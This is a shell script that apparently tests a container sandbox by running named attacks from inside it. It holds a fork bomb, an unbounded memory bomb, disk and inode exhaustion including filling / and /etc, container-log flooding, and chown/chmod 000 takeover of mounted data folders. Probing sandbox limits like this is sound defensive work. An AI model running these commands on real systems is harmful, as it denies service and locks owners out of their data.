#!/bin/sh
# One attack by its name. What the system says of it is its output; file 3 is the container's log.
shared() { busybox awk '/^Shmem:/ { print int($2 / 1024) }' /proc/meminfo; }
fill() { busybox dd if=/dev/zero of="$1/fill" bs=64k 2>&1 && echo 'it never ended'; busybox du -k "$1/fill"; }
case $1 in
  look)
    id; cat /proc/self/uid_map /proc/mounts
    busybox ls -lan /mnt/encrypted_data /own /mnt/host_volume /mnt/host_volume/..
    cat /mnt/host_volume/from-host.txt; echo x > /mnt/host_volume/mine; cat /mnt/host_volume/up ;;
  own)
    for folder in /mnt/encrypted_data /own /mnt/host_volume; do
      busybox chown 12345:54321 $folder && busybox chmod 000 $folder && echo "took $folder"
    done
    # Another project, none at all, and its files in one that is not inherited.
    busybox chattr -p 0 /own; busybox chattr -p 1 /mnt/encrypted_data; busybox chattr -P /own
    busybox chattr -R -p 0 /own; busybox chattr +i /own
    busybox mknod /own/disk b 252 0; busybox mount -t tmpfs none /own ;;
  disk)
    fill /mnt/encrypted_data
    busybox rm -f /mnt/encrypted_data/fill; busybox mkdir -p /mnt/encrypted_data/many; cd /mnt/encrypted_data/many
    busybox awk 'BEGIN { for (; n < 60000; n++) { printf "" > n; close(n) } print "it never ended" }'
    echo "$(busybox ls | busybox wc -l) files"; fill /mnt/encrypted_data ;;
  volume) fill /own ;;
  shm) for folder in /dev/shm /tmp /run /var/tmp /etc /; do echo "$folder:"; fill $folder; busybox rm -f $folder/fill; done ;;
  memory) busybox awk 'BEGIN { text = "x"; while (1) text = text text }'; echo "ended by $?" ;;
  log)
    before=$(shared)
    busybox yes "$(head -c 900 /dev/zero | busybox tr '\0' x)" | head -c 33554432 >&3
    busybox sleep 2; echo "grew by $(($(shared) - before)) MiB" ;;
  fork) bomb() { bomb | bomb & }; bomb; busybox sleep 1000 ;;
esac
